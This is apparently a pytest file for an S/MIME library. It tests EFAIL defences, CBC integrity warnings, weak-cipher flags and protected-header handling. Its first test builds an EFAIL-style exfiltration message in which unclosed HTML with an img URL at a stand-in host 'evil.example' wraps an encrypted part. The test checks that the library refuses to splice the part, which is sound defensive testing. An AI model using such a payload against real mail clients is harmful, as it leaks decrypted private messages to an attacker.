"""How ``open`` treats message structure: EFAIL-shaped messages, integrity warnings, protected
headers (RFC 9788 ``hp``, legacy ``protected-headers="v1"``, RFC 8551 message/rfc822)."""

from __future__ import annotations

import pytest

from smime_companion.core.open import is_smime_message, open_message
from smime_companion.core.text import extract_text
from smime_companion.core.verdicts import Decryption, SignatureStatus
from smime_companion.testing.pki import TestPki
from tests.conftest import load_identity
from tests.tools import mime_message, openssl_cms


def _sign(pki: TestPki, data: bytes, user: str = "alice") -> bytes:
    return openssl_cms(
        ["-sign", "-signer", pki.cert(user), "-inkey", pki.key(user), "-certfile",
         pki.intermediate],
        data,
    )  # fmt: skip


def _encrypt(pki: TestPki, data: bytes, cipher: str = "-aes256", to: str = "bob") -> bytes:
    return openssl_cms(["-encrypt", cipher, "-recip", pki.cert(to)], data)


@pytest.fixture()
def opener(pki, anchors, now):
    def _open(raw: bytes):
        return open_message(raw, identities=[load_identity(pki, "bob")], anchors=anchors, at=now)

    return _open


def _mixed(*parts: bytes, extra_headers: bytes = b"") -> bytes:
    body = b"".join(b"--XYZ\r\n" + p + b"\r\n" for p in parts) + b"--XYZ--\r\n"
    return (
        b"From: attacker@example.net\r\nTo: bob@example.org\r\nSubject: hi\r\n" + extra_headers
        + b'Content-Type: multipart/mixed; boundary="XYZ"\r\n\r\n' + body
    )  # fmt: skip


def test_an_encrypted_part_inside_unprotected_html_is_not_opened_or_spliced(pki, opener) -> None:
    secret = _encrypt(pki, mime_message(body="the secret\r\n"))
    html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?'
    raw = _mixed(html, secret, b'Content-Type: text/html\r\n\r\n">')
    result = opener(raw)
    assert result.decryption == Decryption.NONE
    assert "partially-encrypted" in result.warnings
    assert result.content == raw  # returned untouched: nothing decrypted was joined to the HTML
    assert b"the secret" not in result.content


def test_a_signed_message_wrapped_by_a_mailing_list_is_reported_partially_signed(
    pki, opener
) -> None:
    signed = _sign(pki, mime_message())
    footer = b"Content-Type: text/plain\r\n\r\nlist footer"
    result = opener(_mixed(signed, footer))
    assert result.signature == SignatureStatus.NONE
    assert result.warnings == ("partially-signed",)


def test_cbc_without_an_inner_signature_is_flagged_not_integrity_protected(pki, opener) -> None:
    result = opener(_encrypt(pki, mime_message()))
    assert result.decryption == Decryption.OK
    assert result.content_cipher == "aes-256-cbc"
    assert "not-integrity-protected" in result.warnings


def test_gcm_needs_no_integrity_warning(pki, opener) -> None:
    result = opener(_encrypt(pki, mime_message(), cipher="-aes-256-gcm"))
    assert result.decryption == Decryption.OK
    assert result.content_cipher == "aes-256-gcm"
    assert result.warnings == ()


def test_cbc_with_a_signature_inside_is_integrity_protected(pki, opener) -> None:
    result = opener(_encrypt(pki, _sign(pki, mime_message())))
    assert (result.decryption, result.signature) == (Decryption.OK, SignatureStatus.VALID)
    assert [layer.type for layer in result.layers] == ["enveloped", "signed"]
    assert result.warnings == ()


def test_a_signature_outside_the_encryption_does_not_protect_the_cbc_content(pki, opener) -> None:
    result = opener(_sign(pki, _encrypt(pki, mime_message())))
    assert [layer.type for layer in result.layers] == ["signed", "enveloped"]
    assert "not-integrity-protected" in result.warnings


def test_3des_opens_but_is_flagged_weak(pki, opener) -> None:
    result = opener(_encrypt(pki, _sign(pki, mime_message()), cipher="-des3"))
    assert result.decryption == Decryption.OK
    assert result.content_cipher == "3des-cbc"
    assert "weak-cipher" in result.warnings


def test_triple_wrapped_message_opens_every_layer(pki, opener) -> None:
    # The outer signature can only be matched against the outer From: real mail has one.
    raw = b"From: alice@example.org\r\n" + _sign(pki, _encrypt(pki, _sign(pki, mime_message())))
    result = opener(raw)
    assert [layer.type for layer in result.layers] == ["signed", "enveloped", "signed"]
    assert (result.decryption, result.signature) == (Decryption.OK, SignatureStatus.VALID)
    assert b"this is a test" in result.content


def test_rfc9788_protected_headers_win_over_the_obscured_outer_ones(pki, opener) -> None:
    inner = (
        b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: Merger plans\r\n"
        b'Content-Type: text/plain; charset=utf-8; hp="cipher"\r\n\r\nconfidential\r\n'
    )
    sealed = _encrypt(pki, _sign(pki, inner), cipher="-aes-256-gcm")
    outer = b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: [...]\r\n" + sealed
    result = opener(outer)
    assert result.header_protection == "hp"
    assert result.header("Subject") == "Merger plans"
    assert result.signature == SignatureStatus.VALID


def test_rfc9788_legacy_display_is_hidden_once_the_protected_subject_is_shown(pki, opener) -> None:
    # RFC 9788's example "text-plain-legacy-display", made by openssl: the text starts with
    # "Subject: Dinner plans" for readers that show the outer "[...]"; ours shows the
    # protected Subject, so the lines go, and neither the reader nor the index repeats them.
    inner = (
        b'Content-Type: text/plain; charset="us-ascii"; hp-legacy-display="1";\r\n'
        b' hp="cipher"\r\nFrom: alice@example.org\r\nTo: bob@example.org\r\n'
        b"Subject: Dinner plans\r\nHP-Outer: Subject: [...]\r\n\r\n"
        b"Subject: Dinner plans\r\n\r\nLet's meet at Rama's Roti Shop at 8pm.\r\n"
    )
    sealed = _encrypt(pki, _sign(pki, inner))
    result = opener(
        b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: [...]\r\n" + sealed
    )
    assert (result.header("Subject"), result.signature) == ("Dinner plans", SignatureStatus.VALID)
    assert extract_text(result.content).body == "Let's meet at Rama's Roti Shop at 8pm.\r\n"


def test_legacy_protected_headers_v1_are_read(pki, opener) -> None:
    inner = (
        b'Content-Type: multipart/mixed; boundary="pp"; protected-headers="v1"\r\n'
        b"From: alice@example.org\r\nSubject: Real subject\r\n\r\n"
        b"--pp\r\nContent-Type: text/plain\r\n\r\nbody\r\n--pp--\r\n"
    )
    result = opener(b"Subject: ...\r\n" + _encrypt(pki, _sign(pki, inner)))
    assert result.header_protection == "v1"
    assert result.header("Subject") == "Real subject"


@pytest.mark.parametrize(
    ("wrapper", "subject"),
    [("message/rfc822", "Inner subject"), ("message/global", "Grüße, raw UTF-8 (RFC 6532)")],
)
def test_rfc8551_message_rfc822_wrapping_gives_the_inner_headers(
    pki, opener, wrapper: str, subject: str
) -> None:
    wrapped = f"Content-Type: {wrapper}\r\n\r\n".encode() + mime_message(
        subject=subject, body="wrapped body\r\n"
    )
    result = opener(b"Subject: outer\r\n" + _encrypt(pki, _sign(pki, wrapped)))
    assert result.header_protection == "rfc822"
    assert result.header("Subject") == subject
    assert [layer.type for layer in result.layers] == ["enveloped", "signed", "rfc822"]
    assert result.signature == SignatureStatus.VALID


def test_a_signer_is_checked_against_the_protected_from(pki, opener) -> None:
    # The outer From was rewritten (as some gateways do); the protected From is the signer's.
    inner = (
        b"From: alice@example.org\r\nSubject: s\r\n"
        b'Content-Type: text/plain; hp="clear"\r\n\r\nhello\r\n'
    )
    signed = _sign(pki, inner)
    result = opener(b"From: gateway@example.net\r\n" + signed)
    assert result.signature == SignatureStatus.VALID
    assert result.header("From") == "alice@example.org"


def test_a_plain_message_is_neither_encrypted_nor_signed(opener) -> None:
    raw = mime_message()
    result = opener(raw)
    assert (result.decryption, result.signature, result.layers) == (
        Decryption.NONE,
        SignatureStatus.NONE,
        (),
    )
    assert result.content == raw and result.ok


def test_a_signature_outside_the_encryption_needs_an_outer_from(pki, opener) -> None:
    # The signed content is ciphertext, so nothing inside it can name the sender.
    result = opener(_sign(pki, _encrypt(pki, mime_message())))
    assert result.signature == SignatureStatus.EMAIL_MISMATCH
    assert "From" in (result.layers[0].signers[0].reason or "")


def test_encoded_word_headers_are_decoded_for_display(opener) -> None:
    raw = mime_message(subject="=?utf-8?q?Caf=C3=A9_=E2=98=95?=")
    result = opener(raw)
    assert result.header("Subject") == "=?utf-8?q?Caf=C3=A9_=E2=98=95?="
    assert result.header_text("Subject") == "Café ☕"
    assert result.to_json()["headers"]["subject"] == "Café ☕"


@pytest.mark.parametrize(
    "content_type,expected",
    [
        ('multipart/signed; protocol="application/pkcs7-signature"; boundary=b', True),
        ('multipart/signed; protocol="application/pgp-signature"; boundary=b', False),
        ("application/pkcs7-mime; smime-type=enveloped-data", True),
        ("application/x-pkcs7-mime; smime-type=signed-data", True),
        ('application/octet-stream; name="smime.p7m"', True),
        ('text/plain; name="pkcs7-notes.txt"', False),
        ("message/rfc822", False),
    ],
)
def test_is_smime_message_reads_the_top_level_content_type_only(
    content_type: str, expected: bool
) -> None:
    raw = f"From: a@example.org\r\nContent-Type: {content_type}\r\n\r\nbody\r\n".encode()
    assert is_smime_message(raw) is expected


def test_a_message_whose_header_cannot_be_parsed_counts_as_smime_so_it_is_kept() -> None:
    assert is_smime_message(b"this is not a header line\r\nFrom: a@example.org\r\n\r\n") is True
    # A stray line after a field continues it (core.mime, received=True): the header is read,
    # and a plain message is no S/MIME.
    assert is_smime_message(b"From: a@example.org\r\nthis is a stray line\r\n\r\n") is False
